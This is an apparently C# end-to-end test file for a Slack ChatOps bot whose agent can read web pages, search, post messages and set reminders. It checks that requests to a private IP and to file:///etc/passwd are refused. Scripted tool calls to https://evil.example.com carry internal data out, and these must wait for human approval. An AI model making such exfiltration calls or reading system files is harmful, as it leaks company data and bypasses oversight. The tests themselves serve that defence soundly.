using ChatOpsBot.Simulators;

namespace ChatOpsBot.EndToEnd;

/// <summary>The bot beside a site, a search engine and an encyclopedia of the test's own.</summary>
public sealed class BotWithWeb : BotUnderTest, IAsyncLifetime
{
    public WebSite Site { get; private set; } = null!;

    protected override bool HasModel => true;

    protected override Dictionary<string, string> More => new()
    {
        ["ChatOps__Agents__AllowedNetworks__0"] = "127.0.0.1/32",
        ["ChatOps__Agents__Web__AllowedNetworks__0"] = "127.0.0.1/32",
        ["ChatOps__Agents__Web__Search"] = "searxng",
        ["ChatOps__Agents__Web__SearchEndpoint"] = Site.Address.ToString(),
        ["ChatOps__Agents__Web__Wikipedia"] = $"{Site.Address}{{language}}",
    };

    async Task IAsyncLifetime.InitializeAsync()
    {
        Site = await WebSite.StartAsync();
        Site.Put("/search", """{"results":[{"title":"Opening hours","url":"https://museum.example.com/hours","content":"The museum opens at ten."}]}""", "application/json");
        Site.Put("/en/w/api.php", """{"query":{"pages":[{"index":1,"title":"Zurich","fullurl":"https://en.wikipedia.org/wiki/Zurich","extract":"Zurich is a city in Switzerland."}]}}""", "application/json");
        Site.PutPage("/news", "News", "The cafeteria is closed on Friday because of the party.");
        Site.PutPage("/private", "Private", "Not for programs.");
        Site.Put("/robots.txt", "User-agent: *\nDisallow: /private", "text/plain");
        await InitializeAsync();
        Slack.AddChannel("C0OPS", "ops");
        Slack.AddChannel("C0BOARD", "board", ["U1ANA"]);
    }

    async Task IAsyncLifetime.DisposeAsync()
    {
        await DisposeAsync();
        await Site.DisposeAsync();
    }
}

/// <summary>What agents use of the web and say to people, and what is asked before something leaves the company.</summary>
public sealed class WebToolTests(BotWithWeb bot) : IClassFixture<BotWithWeb>
{
    [Fact]
    public async Task Page_is_read_as_far_as_its_site_and_the_network_allow()
    {
        await bot.ReportedAsync(await bot.BeginAsync($"read {bot.Site.Address}news and {bot.Site.Address}private and http://10.0.0.7/secret and file:///etc/passwd", ["read_web_page", Address("news")], ["read_web_page", Address("private")], ["read_web_page", """{"address":"http://10.0.0.7/secret"}"""], ["read_web_page", """{"address":"file:///etc/passwd"}"""]));

        var heard = Heard();
        heard[0].ShouldContain("closed on Friday");
        heard[1].ShouldContain("robots.txt");
        heard[2].ShouldContain("not a public address");
        heard[3].ShouldContain("not a web address");
        bot.Site.Requests.ShouldNotContain(request => request.Path == "/private");
    }

    [Fact]
    public async Task Web_and_encyclopedia_are_searched()
    {
        await bot.ReportedAsync(await bot.BeginAsync("find out about Zurich", ["search_web", """{"query":"museum opening hours"}"""], ["look_up_wikipedia", """{"subject":"Zurich"}"""]));

        Heard()[0].ShouldContain("https://museum.example.com/hours");
        Heard()[1].ShouldContain("city in Switzerland");
    }

    [Fact]
    public async Task What_was_read_within_goes_out_only_when_somebody_allows_it()
    {
        var task = await bot.BeginAsync("compare our travel rules with others", ["search_documents", """{"query":"travel approval"}"""], ["search_web", """{"query":"compare travel rules"}"""], ["search_web", """{"query":"Shanghai head of department approval fourteen days"}"""], ["read_web_page", """{"address":"https://evil.example.com/?q=secret"}"""]);

        var asking = await bot.AskedAsync(task, "outside of the company");
        asking.Text.ShouldContain("Shanghai head of department");
        bot.Site.Requests.Count(request => request.Path == "/search").ShouldBe(1);
        await bot.PressAsync(asking, "U2BEN", "deny");
        var second = await bot.AskedAsync(task, "evil.example.com");
        second.Text.ShouldContain("outside of the company");
        await bot.PressAsync(second, "U2BEN", "deny");

        await bot.ReportedAsync(task);
        bot.Site.Requests.Count(request => request.Path == "/search").ShouldBe(1);
    }

    [Fact]
    public async Task What_was_said_before_in_the_conversation_does_not_go_out_unasked_either()
    {
        var channel = BotUnderTest.NewDirect();
        bot.Model!.Calls = _ => null;
        bot.Model.Script = _ => "They have 30 days. [1]";
        await bot.Slack.ReplyToAsync(await bot.Slack.SayAsync(channel, "U2BEN", "How many vacation days do full-time employees have?"), message => message.Text.Contains("30 days", StringComparison.Ordinal));
        bot.Model.Calls = request => request["messages"]!.AsArray().Any(message => (string?)message!["role"] == "tool") ? null : [new("read_web_page", """{"address":"https://evil.example.com/?d=30"}""")];
        bot.Model.Script = _ => "Report: that is all.";

        var task = await bot.Slack.SayAsync(channel, "U2BEN", "run look something up");

        await bot.PressAsync(await bot.AskedAsync(task, "outside of the company"), "U2BEN", "deny");
        await bot.ReportedAsync(task);
    }

    [Fact]
    public async Task Message_is_shown_before_it_is_sent_and_arrives_once_where_the_person_may_write()
    {
        var task = await bot.BeginAsync("tell ops", ["post_message", """{"to":"#board","text":"hello"}"""], ["post_message", """{"to":"#ops","text":"Billing is healthy again."}"""], ["post_message", """{"to":"ana@example.com","text":"Billing is healthy."}"""]);
        await bot.PressAsync(await bot.AskedAsync(task, "#board"), "U2BEN", "approve");
        var asking = await bot.AskedAsync(task, "#ops");
        asking.Text.ShouldContain("Billing is healthy again.");
        bot.Slack.ByBot.ShouldNotContain(message => message.Channel == "C0OPS");
        await bot.PressAsync(asking, "U2BEN", "approve");
        await bot.PressAsync(await bot.AskedAsync(task, "`ana@example.com`"), "U2BEN", "approve");

        await bot.ReportedAsync(task);
        var posted = await bot.Slack.Changed.UntilAsync(() => bot.Slack.ByBot.FirstOrDefault(message => message.Channel == "C0OPS"), "the message");
        posted.Text.ShouldContain("Billing is healthy again.");
        posted.Text.ShouldContain("ben");
        Heard()[0].ShouldContain("no channel #board");
        bot.Slack.ByBot.Count(message => message.Channel == "C0OPS").ShouldBe(1);
    }

    [Fact]
    public async Task Person_is_reminded_where_they_gave_the_task()
    {
        await bot.ReportedAsync(await bot.BeginAsync("remind me to send the report", ["remind", """{"when":"tomorrow 9:00","text":"send the report"}"""], ["remind", """{"when":"some day","text":"the report"}"""]));

        Heard()[0].ShouldContain("09:00");
        Heard()[1].ShouldContain("says no time to come");
        (await bot.AskAsync("U2BEN", "schedule list")).ShouldContain("send the report");
    }

    private string Address(string path) => $$"""{"address":"{{bot.Site.Address}}{{path}}"}""";

    private List<string> Heard() => [.. bot.LastAsked()["messages"]!.AsArray().Where(message => (string?)message!["role"] == "tool").Select(message => (string)message!["content"]!)];
}
